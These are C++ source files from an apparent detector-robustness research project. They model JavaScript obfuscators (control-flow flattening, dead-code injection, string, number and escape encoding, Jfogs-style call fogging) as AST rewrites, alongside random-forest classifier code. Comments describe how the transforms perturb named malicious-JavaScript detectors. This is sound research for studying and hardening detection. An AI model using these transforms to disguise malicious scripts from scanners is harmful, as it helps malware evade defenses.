  const std::string counter_name = make_name(NameStyle::kHex, 801, name_rng);

  // var order = "...".split("|"); var i = 0;
  Node* split_call = arena.make(NodeKind::kCallExpression);
  Node* split_member = arena.make(NodeKind::kMemberExpression);
  split_member->children.push_back(arena.string_literal(order_str));
  split_member->children.push_back(arena.identifier("split"));
  split_call->children.push_back(split_member);
  split_call->children.push_back(arena.string_literal("|"));

  Node* decl = arena.make(NodeKind::kVariableDeclaration);
  decl->str = "var";
  Node* d1 = arena.make(NodeKind::kVariableDeclarator);
  d1->children.push_back(arena.identifier(order_name));
  d1->children.push_back(split_call);
  Node* d2 = arena.make(NodeKind::kVariableDeclarator);
  d2->children.push_back(arena.identifier(counter_name));
  d2->children.push_back(arena.number_literal(0));
  decl->children.push_back(d1);
  decl->children.push_back(d2);

  // switch (order[i++]) { case "<tag>": stmt; continue; ... }
  Node* idx = arena.make(NodeKind::kUpdateExpression);
  idx->str = "++";
  idx->children.push_back(arena.identifier(counter_name));
  Node* disc = arena.make(NodeKind::kMemberExpression);
  disc->flags |= Node::kComputed;
  disc->children.push_back(arena.identifier(order_name));
  disc->children.push_back(idx);

  Node* sw = arena.make(NodeKind::kSwitchStatement);
  sw->children.push_back(disc);
  // Cases in placement order (so the source order differs from execution).
  std::vector<std::size_t> case_order(n);
  for (std::size_t i = 0; i < n; ++i) case_order[placement[i]] = i;
  for (std::size_t c = 0; c < n; ++c) {
    const std::size_t stmt_idx = case_order[c];
    Node* cs = arena.make(NodeKind::kSwitchCase);
    cs->children.push_back(arena.string_literal(std::to_string(c)));
    cs->children.push_back(stmts[stmt_idx]);
    Node* cont = arena.make(NodeKind::kContinueStatement);
    cs->children.push_back(cont);
    sw->children.push_back(cs);
  }

  // while (true) { switch ...; break; }
  Node* loop_body = arena.make(NodeKind::kBlockStatement);
  loop_body->children.push_back(sw);
  loop_body->children.push_back(arena.make(NodeKind::kBreakStatement));
  Node* loop = arena.make(NodeKind::kWhileStatement);
  loop->children.push_back(arena.bool_literal(true));
  loop->children.push_back(loop_body);

  all_stmts.clear();
  for (Node* fn : hoisted_fns) all_stmts.push_back(fn);
  if (!hoisted_vars.empty()) {
    Node* hoist = arena.make(NodeKind::kVariableDeclaration);
    hoist->str = "var";
    for (const std::string& name : hoisted_vars) {
      Node* d = arena.make(NodeKind::kVariableDeclarator);
      d->children.push_back(arena.identifier(name));
      d->children.push_back(nullptr);
      hoist->children.push_back(d);
    }
    all_stmts.push_back(hoist);
  }
  all_stmts.push_back(decl);
  all_stmts.push_back(loop);
}

}  // namespace

int flatten_control_flow(Ast& ast, Rng& rng, int min_stmts) {
  int flattened = 0;
  auto try_flatten = [&](js::ChildList& stmts) {
    if (flattenable(stmts, min_stmts)) {
      flatten_block(ast.arena, stmts, rng);
      ++flattened;
      return true;
    }
    return false;
  };

  // Function bodies.
  js::walk(ast.root, [&](Node* n) {
    if (n->is_function()) {
      try_flatten(n->children.back()->children);
      return false;  // don't descend into the rewritten machinery
    }
    return true;
  });
  // Top level.
  try_flatten(ast.root->children);

  js::finalize_tree(ast.root);
  return flattened;
}

namespace {

Node* make_junk_statement(js::AstArena& arena, Rng& rng,
                          const std::vector<const Node*>& pool, int salt) {
  // Real javascript-obfuscator derives its dead code from the program's own
  // statements (wrapped in never-taken branches), keeping the injected code
  // statistically neutral; hex-string declarations and trap debuggers fill
  // the remaining variants.
  const std::string name = "_j" + std::to_string(salt);
  switch (rng.below(3)) {
    case 0: {
      Node* iff = arena.make(NodeKind::kIfStatement);
      iff->children.push_back(arena.bool_literal(false));
      Node* blk = arena.make(NodeKind::kBlockStatement);
      if (!pool.empty()) {
        Node* junk = clone(rng.pick(pool), arena);
        // A cloned `var` still binds its original name; hoisted out of the
        // never-taken branch it would shadow (or re-declare) the live
        // binding in whatever function it lands in. Re-bind the dead copy
        // to fresh junk names so it cannot capture live references.
        int k = 0;
        js::walk(junk, [&](Node* c) {
          if (c->kind == NodeKind::kVariableDeclarator) {
            c->children[0]->str = name + "_" + std::to_string(k++);
          }
          return true;
        });
        blk->children.push_back(junk);
      } else {
        blk->children.push_back(arena.make(NodeKind::kDebuggerStatement));
      }
      iff->children.push_back(blk);
      iff->children.push_back(nullptr);
      return iff;
    }
    case 1: {
      // if (false) { debugger; }
      Node* iff = arena.make(NodeKind::kIfStatement);
      iff->children.push_back(arena.bool_literal(false));
      Node* blk = arena.make(NodeKind::kBlockStatement);
      blk->children.push_back(arena.make(NodeKind::kDebuggerStatement));
      iff->children.push_back(blk);
      iff->children.push_back(nullptr);
      return iff;
    }
    default: {
      // var _jN = "<hex gibberish>" + "<hex gibberish>";
      auto hex = [&rng] {
        std::string s;
        for (int i = 0; i < 8; ++i) s += kHexDigits[rng.below(16)];
        return s;
      };
      Node* concat = arena.make(NodeKind::kBinaryExpression);
      concat->str = "+";
      concat->children.push_back(arena.string_literal(hex()));
      concat->children.push_back(arena.string_literal(hex()));
      Node* decl = arena.make(NodeKind::kVariableDeclaration);
      decl->str = "var";
      Node* d = arena.make(NodeKind::kVariableDeclarator);
      d->children.push_back(arena.identifier(name));
      d->children.push_back(concat);
      decl->children.push_back(d);
      return decl;
    }
  }
}

}  // namespace

int inject_dead_code(Ast& ast, Rng& rng, double density) {
  int injected = 0;
  int salt = 0;

  // Pool of the program's own simple statements to clone into dead branches.
  std::vector<const Node*> pool;
  js::walk(const_cast<const Node*>(ast.root), [&pool](const Node* n) {
    if (n->kind == NodeKind::kExpressionStatement ||
        (n->kind == NodeKind::kVariableDeclaration && n->str == "var")) {
      pool.push_back(n);
    }
    return true;
  });

  auto inject_into = [&](js::ChildList& stmts) {
    std::vector<Node*> out;
    out.reserve(stmts.size() * 2);
    for (Node* s : stmts) {
      if (rng.chance(density)) {
        out.push_back(make_junk_statement(ast.arena, rng, pool, salt++));
        ++injected;
      }
      out.push_back(s);
    }
    if (rng.chance(density)) {
      out.push_back(make_junk_statement(ast.arena, rng, pool, salt++));
      ++injected;
    }
    stmts = std::move(out);
  };

  // Snapshot the target statement lists BEFORE mutating: injected clones can
  // themselves contain functions, and injecting into freshly inserted junk
  // would recurse without bound (clone → inject → clone → ...).
  std::vector<js::ChildList*> targets;
  targets.push_back(&ast.root->children);
  js::walk(ast.root, [&targets](Node* n) {
    if (n->is_function()) targets.push_back(&n->children.back()->children);
    return true;
  });
  for (auto* stmts : targets) inject_into(*stmts);

  js::finalize_tree(ast.root);
  return injected;
}

int encode_strings(Ast& ast, Rng& rng, std::size_t min_len,
                   double charcode_p) {
  js::finalize_tree(ast.root);
  auto& arena = ast.arena;
  int rewritten = 0;

  std::vector<Node*> targets;
  js::walk(ast.root, [&](Node* n) {
    if (n->kind == NodeKind::kProperty && !n->has_flag(Node::kComputed)) {
      js::walk(n->children[1], [&](Node* m) {
        if (m->kind == NodeKind::kLiteral && m->lit == LiteralType::kString &&
            m->str.size() >= min_len) {
          targets.push_back(m);
        }
        return true;
      });
      return false;
    }
    if (n->kind == NodeKind::kLiteral && n->lit == LiteralType::kString &&
        n->str.size() >= min_len) {
      targets.push_back(n);
    }
    return true;
  });

  for (Node* s : targets) {
    const std::string value = s->str;
    // Split into 2-4 chunks.
    const std::size_t nchunks =
        std::min<std::size_t>(2 + rng.below(3), value.size());
    std::vector<std::string> chunks;
    std::size_t start = 0;
    for (std::size_t c = 0; c < nchunks; ++c) {
      const std::size_t remaining = value.size() - start;
      const std::size_t left = nchunks - c - 1;
      std::size_t len = c + 1 == nchunks
                            ? remaining
                            : 1 + rng.below(std::max<std::size_t>(
                                      1, remaining - left));
      len = std::min(len, remaining - left);
      chunks.push_back(value.substr(start, len));
      start += len;
    }

    auto chunk_node = [&](const std::string& chunk) -> Node* {
      const bool all_ascii = std::all_of(
          chunk.begin(), chunk.end(),
          [](char c) { return static_cast<unsigned char>(c) < 128; });
      // fromCharCode only for short chunks (one argument per character —
      // long chunks would blow the program up, and the real tool caps too).
      if (all_ascii && !chunk.empty() && chunk.size() <= 24 &&
          rng.chance(charcode_p)) {
        // String.fromCharCode(c1, c2, ...)
        Node* member = arena.make(NodeKind::kMemberExpression);
        member->children.push_back(arena.identifier("String"));
        member->children.push_back(arena.identifier("fromCharCode"));
        Node* call = arena.make(NodeKind::kCallExpression);
        call->children.push_back(member);
        for (const char ch : chunk) {
          call->children.push_back(arena.number_literal(
              static_cast<double>(static_cast<unsigned char>(ch))));
        }
        return call;
      }
      return arena.string_literal(chunk);
    };

    Node* expr = chunk_node(chunks[0]);
    bool any_encoded = chunks.size() > 1;
    for (std::size_t c = 1; c < chunks.size(); ++c) {
      Node* concat = arena.make(NodeKind::kBinaryExpression);
      concat->str = "+";
      concat->children.push_back(expr);
      concat->children.push_back(chunk_node(chunks[c]));
      expr = concat;
    }
    if (expr->kind == NodeKind::kLiteral) {
      // Single unencoded chunk — force at least a "" + s concat so the shape
      // still changes, as jsobfu does.
      Node* concat = arena.make(NodeKind::kBinaryExpression);
      concat->str = "+";
      concat->children.push_back(arena.string_literal(""));
      concat->children.push_back(expr);
      expr = concat;
      any_encoded = true;
    }
    if (any_encoded) {
      js::replace_node(s, *expr);
      ++rewritten;
    }
  }
  js::finalize_tree(ast.root);
  return rewritten;
}

int encode_numbers(Ast& ast, Rng& rng, double p) {
  js::finalize_tree(ast.root);
  auto& arena = ast.arena;
  int rewritten = 0;

  std::vector<Node*> targets;
  js::walk(ast.root, [&](Node* n) {
    // Skip object keys (must stay literal) — property values only.
    if (n->kind == NodeKind::kProperty && !n->has_flag(Node::kComputed)) {
      js::walk(n->children[1], [&](Node* m) {
        if (m->kind == NodeKind::kLiteral && m->lit == LiteralType::kNumber &&
            m->num == std::floor(m->num) && std::fabs(m->num) < 1e6) {
          targets.push_back(m);
        }
        return true;
      });
      return false;
    }
    if (n->kind == NodeKind::kLiteral && n->lit == LiteralType::kNumber &&
        n->num == std::floor(n->num) && std::fabs(n->num) < 1e6) {
      targets.push_back(n);
    }
    return true;
  });

  for (Node* t : targets) {
    if (!rng.chance(p)) continue;
    const double v = t->num;
    const auto delta = static_cast<double>(rng.below(1000) + 1);
    Node* expr = arena.make(NodeKind::kBinaryExpression);
    if (rng.chance(0.5)) {
      expr->str = "-";
      expr->children.push_back(arena.number_literal(v + delta));
      expr->children.push_back(arena.number_literal(delta));
    } else {
      expr->str = "+";
      expr->children.push_back(arena.number_literal(v - delta));
      expr->children.push_back(arena.number_literal(delta));
    }
    js::replace_node(t, *expr);
    ++rewritten;
  }
  js::finalize_tree(ast.root);
  return rewritten;
}

int fog_calls(Ast& ast, Rng& rng) {
  js::finalize_tree(ast.root);
  auto& arena = ast.arena;

  // 1. Rename every function's parameters to fog<k> (consistently, via the
  //    scope machinery with the kFog style).
  Rng rename_rng = rng.fork();
  rename_variables(ast, NameStyle::kFog, rename_rng);

  // 2. Uniformize call shapes: every direct call becomes an .apply() with
  //    its arguments packed into an array (removing "call identifiers and
  //    parameters" — Jfogs' signature trick). Identifier callees are
  //    additionally routed through an indirection table; method calls on
  //    simple identifier receivers become obj["m"].apply(obj, [...]).
  std::vector<Node*> id_calls, local_calls, member_calls;
  std::vector<std::string> callee_names;
  std::unordered_map<std::string, std::size_t> table_index;
  const analysis::ScopeInfo scopes = analysis::analyze_scopes(ast.root);
  js::walk(ast.root, [&](Node* n) {
    if (n->kind != NodeKind::kCallExpression) return true;
    Node* callee = n->children[0];
    if (callee->kind == NodeKind::kIdentifier) {
      // Only callees visible from global scope may live in the global
      // indirection table; a parameter or function-local binding hoisted
      // into it would dangle as an implicit global.
      const analysis::Symbol* sym = scopes.symbol_for(callee);
      if (sym != nullptr && sym->scope != scopes.global_scope()) {
        local_calls.push_back(n);
        return true;
      }
      if (table_index.emplace(callee->str, callee_names.size()).second) {
        callee_names.push_back(callee->str);
      }
      id_calls.push_back(n);
    } else if (callee->kind == NodeKind::kMemberExpression &&
               !callee->has_flag(Node::kComputed) &&
               callee->children[0]->kind == NodeKind::kIdentifier) {
      member_calls.push_back(n);
    }
    return true;
  });
  if (id_calls.empty() && local_calls.empty() && member_calls.empty()) {
    js::finalize_tree(ast.root);
    return 0;
  }

  Rng name_rng = rng.fork();
  const std::string table_name = make_name(NameStyle::kFog, 9000, name_rng);

  auto pack_args = [&arena](Node* call) {
    Node* arr = arena.make(NodeKind::kArrayExpression);
    for (std::size_t i = 1; i < call->children.size(); ++i) {
      arr->children.push_back(call->children[i]);
    }
    return arr;
  };

  for (Node* call : id_calls) {
    const std::size_t idx = table_index[call->children[0]->str];
    Node* entry = arena.make(NodeKind::kMemberExpression);
    entry->flags |= Node::kComputed;
    entry->children.push_back(arena.identifier(table_name));
    entry->children.push_back(arena.number_literal(static_cast<double>(idx)));
    Node* apply = arena.make(NodeKind::kMemberExpression);
    apply->children.push_back(entry);
    apply->children.push_back(arena.identifier("apply"));
    Node* args = pack_args(call);
    call->children.clear();
    call->children.push_back(apply);
    call->children.push_back(arena.null_literal());
    call->children.push_back(args);
  }

  for (Node* call : local_calls) {
    // Locally-bound callee: keep the identifier in place (so it still
    // resolves in its own scope) and only uniformize the call shape.
    Node* callee = call->children[0];
    Node* apply = arena.make(NodeKind::kMemberExpression);
    apply->children.push_back(callee);
    apply->children.push_back(arena.identifier("apply"));
    Node* args = pack_args(call);
    call->children.clear();
    call->children.push_back(apply);
    call->children.push_back(arena.null_literal());
    call->children.push_back(args);
  }

  for (Node* call : member_calls) {
    Node* callee = call->children[0];
    const std::string receiver = callee->children[0]->str;
    const std::string method = callee->children[1]->str;
    Node* lookup = arena.make(NodeKind::kMemberExpression);
    lookup->flags |= Node::kComputed;
    lookup->children.push_back(arena.identifier(receiver));
    lookup->children.push_back(arena.string_literal(method));
    Node* apply = arena.make(NodeKind::kMemberExpression);
    apply->children.push_back(lookup);
    apply->children.push_back(arena.identifier("apply"));
    Node* args = pack_args(call);
    call->children.clear();
    call->children.push_back(apply);
    call->children.push_back(arena.identifier(receiver));
    call->children.push_back(args);
  }
  const std::size_t fogged =
      id_calls.size() + local_calls.size() + member_calls.size();

  // 3. Hoist every constant (string/number/boolean literal outside property
  //    keys) into one global fog-data array and replace occurrences with
  //    indexed references — real Jfogs moves program constants into a
  //    `$fog$` array. Every statement now references the same symbol, which
  //    uniformizes the token stream (CUJO), perturbs all subtree shapes
  //    (JAST/JSTAP), and floods the data flow with one variable's edges.
  std::vector<Node*> fog_values;
  const std::string data_name = make_name(NameStyle::kFog, 9001, name_rng);
  auto fog_ref = [&](Node* literal) {
    Node* ref = arena.make(NodeKind::kMemberExpression);
    ref->flags |= Node::kComputed;
    ref->children.push_back(arena.identifier(data_name));
    ref->children.push_back(
        arena.number_literal(static_cast<double>(fog_values.size())));
    // Copy the literal's payload into the table entry — field by field, not
    // whole-node assignment, which would also copy the arena slot id and
    // re-point the entry at the tree node rewritten to a table read below.
    Node* stored = arena.make(NodeKind::kLiteral);
    stored->lit = literal->lit;
    stored->num = literal->num;
    stored->bval = literal->bval;
    stored->str = literal->str;
    fog_values.push_back(stored);
    js::replace_node(literal, *ref);
  };
  js::walk(ast.root, [&](Node* n) {
    if (n->kind == NodeKind::kProperty && !n->has_flag(Node::kComputed)) {
      // Keys must remain literal; only descend into the value.
      js::walk(n->children[1], [&](Node* m) {
        if (m->kind == NodeKind::kLiteral && m->lit != LiteralType::kRegex &&
            m->lit != LiteralType::kNull) {
          fog_ref(m);
          return false;
        }
        return true;
      });
      return false;
    }
    if (n->kind == NodeKind::kLiteral && n->lit != LiteralType::kRegex &&
        n->lit != LiteralType::kNull) {
      fog_ref(n);
      return false;
    }
    return true;
  });
  if (!fog_values.empty()) {
    Node* arr = arena.make(NodeKind::kArrayExpression);
    arr->children = fog_values;
    Node* decl = arena.make(NodeKind::kVariableDeclaration);
    decl->str = "var";
    Node* d = arena.make(NodeKind::kVariableDeclarator);
    d->children.push_back(arena.identifier(data_name));
    d->children.push_back(arr);
    decl->children.push_back(d);
    ast.root->children.insert(ast.root->children.begin(), decl);
  }

  // var <table> = [fn1, fn2, ...];
  if (!callee_names.empty()) {
    Node* arr = arena.make(NodeKind::kArrayExpression);
    for (const std::string& name : callee_names) {
      arr->children.push_back(arena.identifier(name));
    }
    Node* decl = arena.make(NodeKind::kVariableDeclaration);
    decl->str = "var";
    Node* d = arena.make(NodeKind::kVariableDeclarator);
    d->children.push_back(arena.identifier(table_name));
    d->children.push_back(arr);
    decl->children.push_back(d);
    ast.root->children.insert(ast.root->children.begin(), decl);
  }

  js::finalize_tree(ast.root);
  return static_cast<int>(fogged);
}

int hoist_call_args(Ast& ast, Rng& rng, double p) {
  js::finalize_tree(ast.root);
  auto& arena = ast.arena;
  int hoisted = 0;
  int salt = 0;

  auto process_list = [&](js::ChildList& stmts) {
    std::vector<Node*> out;
    out.reserve(stmts.size());
    for (Node* s : stmts) {
      // Target: ExpressionStatement wrapping a direct call, or a var
      // declaration whose single initializer is a direct call.
      Node* call = nullptr;
      if (s->kind == NodeKind::kExpressionStatement &&
          s->children[0]->kind == NodeKind::kCallExpression) {
        call = s->children[0];
      } else if (s->kind == NodeKind::kVariableDeclaration &&
                 s->children.size() == 1 &&
                 s->children[0]->children.size() > 1 &&
                 s->children[0]->children[1] != nullptr &&
                 s->children[0]->children[1]->kind ==
                     NodeKind::kCallExpression) {
        call = s->children[0]->children[1];
      }
      // Skip argument-heavy calls (fromCharCode chains and the like): one
      // temp per argument would explode the statement count across rounds.
      if (call != nullptr && call->children.size() > 1 &&
          call->children.size() <= 7 && rng.chance(p)) {
        for (std::size_t a = 1; a < call->children.size(); ++a) {
          Node* arg = call->children[a];
          // Leave bare identifiers/this alone: no hoist needed.
          if (arg->kind == NodeKind::kIdentifier ||
              arg->kind == NodeKind::kThisExpression) {
            continue;
          }
          const std::string tmp = "_t" + std::to_string(salt++) + "q";
          Node* decl = arena.make(NodeKind::kVariableDeclaration);
          decl->str = "var";
          Node* d = arena.make(NodeKind::kVariableDeclarator);
          d->children.push_back(arena.identifier(tmp));
          d->children.push_back(arg);
          decl->children.push_back(d);
          out.push_back(decl);
          call->children[a] = arena.identifier(tmp);
          ++hoisted;
        }
      }
      out.push_back(s);
    }
    stmts = std::move(out);
  };

  process_list(ast.root->children);
  js::walk(ast.root, [&](Node* n) {
    // Function bodies are BlockStatements and are covered by this branch.
    if (n->kind == NodeKind::kBlockStatement) process_list(n->children);
    return true;
  });

  js::finalize_tree(ast.root);
  return hoisted;
}

int escape_encode_strings(Ast& ast, Rng& rng, std::size_t min_len,
                          double p) {
  js::finalize_tree(ast.root);
  auto& arena = ast.arena;

  std::vector<Node*> targets;
  js::walk(ast.root, [&](Node* n) {
    if (n->kind == NodeKind::kProperty && !n->has_flag(Node::kComputed)) {
      js::walk(n->children[1], [&](Node* m) {
        if (m->kind == NodeKind::kLiteral && m->lit == LiteralType::kString &&
            m->str.size() >= min_len) {
          targets.push_back(m);
        }
        return true;
      });
      return false;
    }
    if (n->kind == NodeKind::kLiteral && n->lit == LiteralType::kString &&
        n->str.size() >= min_len) {
      targets.push_back(n);
    }
    return true;
  });

  int rewritten = 0;
  for (Node* s : targets) {
    if (!rng.chance(p)) continue;
    bool ascii = true;
    for (const char c : s->str) {
      ascii = ascii && static_cast<unsigned char>(c) < 128;
    }
    if (!ascii) continue;
    std::string encoded;
    encoded.reserve(s->str.size() * 3);
    for (const char c : s->str) {
      encoded += '%';
      encoded += kHexDigits[(static_cast<unsigned char>(c) >> 4) & 15];
      encoded += kHexDigits[static_cast<unsigned char>(c) & 15];
    }
    Node* call = arena.make(NodeKind::kCallExpression);
    call->children.push_back(arena.identifier("unescape"));
    call->children.push_back(arena.string_literal(encoded));
    js::replace_node(s, *call);
    ++rewritten;
  }
  js::finalize_tree(ast.root);
  return rewritten;
}

}  // namespace jsrev::obf
