// Common interface for JavaScript obfuscator models (paper Section IV-A2).
//
// Each obfuscator is an AST-to-AST transformation pipeline followed by code
// generation. Obfuscation must preserve parseability and program structure
// semantics (we never execute JS, but the transforms are designed to be
// semantics-preserving in the same way the real tools are).
#pragma once

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "js/ast.h"

namespace jsrev::obf {

class Obfuscator {
 public:
  virtual ~Obfuscator() = default;

  /// Obfuscates a source string; returns the transformed source. The seed
  /// controls name generation and randomized choices so runs reproduce.
  virtual std::string obfuscate(const std::string& source,
                                std::uint64_t seed) const = 0;

  virtual std::string name() const = 0;
};

enum class ObfuscatorKind {
  kJavaScriptObfuscator,  // hex renaming + string array + CFF + dead code
  kJfogs,                 // call-identifier / parameter fogging
  kJsObfu,                // iterative string/number encoding (3 rounds)
  kJshaman,               // basic tier: variable renaming only
};

inline constexpr ObfuscatorKind kAllObfuscators[] = {
    ObfuscatorKind::kJavaScriptObfuscator, ObfuscatorKind::kJfogs,
    ObfuscatorKind::kJsObfu, ObfuscatorKind::kJshaman};

std::string obfuscator_kind_name(ObfuscatorKind k);

std::unique_ptr<Obfuscator> make_obfuscator(ObfuscatorKind kind);

/// Whitespace-only minifier modeling the dominant benign "obfuscation" in
/// the wild (Moog et al.: >60% of benign scripts are minified).
std::string minify(const std::string& source);

}  // namespace jsrev::obf
