#include "ml/multiclass_forest.h"

#include <algorithm>
#include <cmath>
#include <numeric>

#include "obs/metrics.h"
#include "obs/trace.h"
#include "util/hash.h"
#include "util/thread_pool.h"

namespace jsrev::ml {
namespace {

double gini_multi(const std::vector<std::size_t>& counts, std::size_t total) {
  if (total == 0) return 0.0;
  double s = 0.0;
  for (const std::size_t c : counts) {
    const double p = static_cast<double>(c) / static_cast<double>(total);
    s += p * p;
  }
  return 1.0 - s;
}

}  // namespace

MulticlassDecisionTree::MulticlassDecisionTree(MulticlassTreeConfig cfg)
    : cfg_(cfg) {}

void MulticlassDecisionTree::fit(const Matrix& x, const std::vector<int>& y) {
  int n_classes = 0;
  for (const int label : y) n_classes = std::max(n_classes, label + 1);
  std::vector<std::size_t> rows(x.rows());
  std::iota(rows.begin(), rows.end(), 0);
  fit_subset(x, y, rows, std::max(1, n_classes));
}

void MulticlassDecisionTree::fit_subset(const Matrix& x,
                                        const std::vector<int>& y,
                                        const std::vector<std::size_t>& rows,
                                        int n_classes) {
  nodes_.clear();
  n_classes_ = n_classes;
  Rng rng(cfg_.seed);
  std::vector<std::size_t> work = rows;
  if (work.empty()) {
    TreeNode leaf;
    leaf.distribution.assign(static_cast<std::size_t>(n_classes_), 0.0);
    nodes_.push_back(std::move(leaf));
    return;
  }
  build(x, y, work, 0, work.size(), 0, rng);
}

int MulticlassDecisionTree::build(const Matrix& x, const std::vector<int>& y,
                                  std::vector<std::size_t>& rows,
                                  std::size_t begin, std::size_t end,
                                  int depth, Rng& rng) {
  const std::size_t n = end - begin;
  std::vector<std::size_t> counts(static_cast<std::size_t>(n_classes_), 0);
  for (std::size_t i = begin; i < end; ++i) {
    ++counts[static_cast<std::size_t>(y[rows[i]])];
  }

  const int node_id = static_cast<int>(nodes_.size());
  nodes_.push_back({});
  auto& dist = nodes_[static_cast<std::size_t>(node_id)].distribution;
  dist.assign(static_cast<std::size_t>(n_classes_), 0.0);
  for (std::size_t c = 0; c < counts.size(); ++c) {
    dist[c] = n > 0 ? static_cast<double>(counts[c]) / static_cast<double>(n)
                    : 0.0;
  }

  const double node_gini = gini_multi(counts, n);
  const bool pure =
      *std::max_element(counts.begin(), counts.end()) == n;
  if (depth >= cfg_.max_depth || pure ||
      n < static_cast<std::size_t>(cfg_.min_samples_split)) {
    return node_id;
  }

  const std::size_t n_features = x.cols();
  std::vector<std::size_t> features;
  if (cfg_.max_features > 0 &&
      static_cast<std::size_t>(cfg_.max_features) < n_features) {
    std::vector<std::size_t> all(n_features);
    std::iota(all.begin(), all.end(), 0);
    for (int i = 0; i < cfg_.max_features; ++i) {
      const std::size_t j =
          static_cast<std::size_t>(i) +
          rng.below(n_features - static_cast<std::size_t>(i));
      std::swap(all[static_cast<std::size_t>(i)], all[j]);
      features.push_back(all[static_cast<std::size_t>(i)]);
    }
  } else {
    features.resize(n_features);
    std::iota(features.begin(), features.end(), 0);
  }

  int best_feature = -1;
  double best_threshold = 0.0;
  double best_impurity = node_gini + 1e-9;

  std::vector<std::pair<double, int>> vals;
  std::vector<std::size_t> left_counts(static_cast<std::size_t>(n_classes_));
  for (const std::size_t f : features) {
    vals.clear();
    for (std::size_t i = begin; i < end; ++i) {
      vals.emplace_back(x(rows[i], f), y[rows[i]]);
    }
    std::sort(vals.begin(), vals.end());
    std::fill(left_counts.begin(), left_counts.end(), 0);
    std::size_t left_n = 0;
    for (std::size_t i = 0; i + 1 < n; ++i) {
      ++left_n;
      ++left_counts[static_cast<std::size_t>(vals[i].second)];
      if (vals[i].first == vals[i + 1].first) continue;
      const std::size_t right_n = n - left_n;
      std::vector<std::size_t> right_counts(counts);
      for (std::size_t c = 0; c < right_counts.size(); ++c) {
        right_counts[c] -= left_counts[c];
      }
      const double impurity =
          (static_cast<double>(left_n) * gini_multi(left_counts, left_n) +
           static_cast<double>(right_n) * gini_multi(right_counts, right_n)) /
          static_cast<double>(n);
      if (impurity < best_impurity) {
        best_impurity = impurity;
        best_feature = static_cast<int>(f);
        best_threshold = 0.5 * (vals[i].first + vals[i + 1].first);
      }
    }
  }
  if (best_feature < 0) return node_id;

  const auto bf = static_cast<std::size_t>(best_feature);
  std::size_t mid = begin;
  for (std::size_t i = begin; i < end; ++i) {
    if (x(rows[i], bf) <= best_threshold) {
      std::swap(rows[i], rows[mid]);
      ++mid;
    }
  }
  if (mid == begin || mid == end) return node_id;

  nodes_[static_cast<std::size_t>(node_id)].feature = best_feature;
  nodes_[static_cast<std::size_t>(node_id)].threshold = best_threshold;
  const int left = build(x, y, rows, begin, mid, depth + 1, rng);
  nodes_[static_cast<std::size_t>(node_id)].left = left;
  const int right = build(x, y, rows, mid, end, depth + 1, rng);
  nodes_[static_cast<std::size_t>(node_id)].right = right;
  return node_id;
}

const std::vector<double>& MulticlassDecisionTree::predict_distribution(
    const double* row) const {
  std::size_t cur = 0;
  while (nodes_[cur].feature >= 0) {
    const auto& node = nodes_[cur];
    cur = static_cast<std::size_t>(
        row[static_cast<std::size_t>(node.feature)] <= node.threshold
            ? node.left
            : node.right);
  }
  return nodes_[cur].distribution;
}

int MulticlassDecisionTree::predict(const double* row) const {
  const auto& dist = predict_distribution(row);
  return static_cast<int>(
      std::max_element(dist.begin(), dist.end()) - dist.begin());
}

MulticlassRandomForest::MulticlassRandomForest(MulticlassForestConfig cfg)
    : cfg_(cfg) {}

void MulticlassRandomForest::fit(const Matrix& x, const std::vector<int>& y) {
  obs::Span span("ml.forest.fit", "ml");
  static obs::Counter* trees_trained =
      obs::metrics().counter("ml.forest.trees_trained");
  trees_trained->add(static_cast<std::uint64_t>(cfg_.n_trees));
  trees_.clear();
  n_classes_ = 0;
  for (const int label : y) n_classes_ = std::max(n_classes_, label + 1);
  n_classes_ = std::max(1, n_classes_);

  const std::size_t n = x.rows();
  const int mtry = std::max(
      1, static_cast<int>(std::sqrt(static_cast<double>(x.cols()))));
  // Per-tree (seed, t)-derived RNG — see RandomForest::fit for the
  // determinism rationale.
  trees_.assign(static_cast<std::size_t>(cfg_.n_trees),
                MulticlassDecisionTree());
  parallel_for_threads(
      cfg_.threads, static_cast<std::size_t>(cfg_.n_trees),
      [&](std::size_t t) {
        Rng tree_rng(hash_combine(cfg_.seed, 0x6d756c7469ULL + t));
        MulticlassTreeConfig tc;
        tc.max_depth = cfg_.max_depth;
        tc.max_features = mtry;
        tc.seed = tree_rng();
        MulticlassDecisionTree tree(tc);
        std::vector<std::size_t> rows(n);
        for (std::size_t i = 0; i < n; ++i) rows[i] = tree_rng.below(n);
        tree.fit_subset(x, y, rows, n_classes_);
        trees_[t] = std::move(tree);
      });
}

std::vector<double> MulticlassRandomForest::predict_distribution(
    const double* row) const {
  std::vector<double> dist(static_cast<std::size_t>(n_classes_), 0.0);
  if (trees_.empty()) return dist;
  for (const auto& tree : trees_) {
    const auto& d = tree.predict_distribution(row);
    for (std::size_t c = 0; c < dist.size() && c < d.size(); ++c) {
      dist[c] += d[c];
    }
  }
  for (double& v : dist) v /= static_cast<double>(trees_.size());
  return dist;
}

int MulticlassRandomForest::predict(const double* row) const {
  const auto dist = predict_distribution(row);
  return static_cast<int>(
      std::max_element(dist.begin(), dist.end()) - dist.begin());
}

}  // namespace jsrev::ml
