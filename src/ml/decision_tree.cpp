#include "ml/decision_tree.h"

#include <algorithm>
#include <cmath>
#include <numeric>

#include "util/hash.h"
#include "util/thread_pool.h"

namespace jsrev::ml {
namespace {

double gini(std::size_t pos, std::size_t total) {
  if (total == 0) return 0.0;
  const double p = static_cast<double>(pos) / static_cast<double>(total);
  return 2.0 * p * (1.0 - p);
}

}  // namespace

DecisionTree::DecisionTree(TreeConfig cfg) : cfg_(cfg) {}

void DecisionTree::fit(const Matrix& x, const std::vector<int>& y) {
  std::vector<std::size_t> rows(x.rows());
  std::iota(rows.begin(), rows.end(), 0);
  fit_subset(x, y, rows);
}

void DecisionTree::fit_subset(const Matrix& x, const std::vector<int>& y,
                              const std::vector<std::size_t>& rows) {
  nodes_.clear();
  n_features_ = x.cols();
  importance_.assign(n_features_, 0.0);
  Rng rng(cfg_.seed);
  std::vector<std::size_t> work = rows;
  if (work.empty()) {
    nodes_.push_back({-1, 0.0, -1, -1, 0.0});
    return;
  }
  build(x, y, work, 0, work.size(), 0, rng);
}

int DecisionTree::build(const Matrix& x, const std::vector<int>& y,
                        std::vector<std::size_t>& rows, std::size_t begin,
                        std::size_t end, int depth, Rng& rng) {
  const std::size_t n = end - begin;
  std::size_t pos = 0;
  for (std::size_t i = begin; i < end; ++i) pos += y[rows[i]] == 1;

  const int node_id = static_cast<int>(nodes_.size());
  nodes_.push_back({});
